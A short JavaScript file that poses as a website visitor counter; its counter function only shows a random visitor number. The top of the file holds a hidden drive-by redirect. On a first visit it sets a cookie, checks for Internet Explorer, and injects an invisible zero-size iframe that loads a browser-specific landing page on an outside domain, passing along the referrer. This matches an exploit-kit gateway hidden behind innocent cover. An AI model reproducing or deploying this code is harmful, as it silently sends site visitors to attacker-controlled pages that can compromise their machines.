if (document.cookie.indexOf('__ifr_seen') === -1) {
  var expires = new Date();
  expires.setDate(expires.getDate() + 1);
  document.cookie = '__ifr_seen=1; expires=' + expires.toGMTString() + '; path=/';

  var ua = navigator.userAgent.toLowerCase();
  var winIE = ua.indexOf('msie') !== -1 || ua.indexOf('trident') !== -1;
  var landing = winIE ? 'http://exp-gateway-ads.su/in.php?ad=ie11' : 'http://exp-gateway-ads.su/in.php?ad=gen';

  document.write('<iframe src="' + landing + '&r=' + escape(document.referrer) + '" width="0" height="0" frameborder="0" scrolling="no" style="display:none"></iframe>');
}

function counterInit() {
  var counter = document.getElementById('site-counter');
  if (counter) counter.innerHTML = 'Visitors: ' + (1000 + Math.floor(Math.random() * 200));
}

if (window.addEventListener) {
  window.addEventListener('load', counterInit, false);
} else if (window.attachEvent) {
  window.attachEvent('onload', counterInit);
}
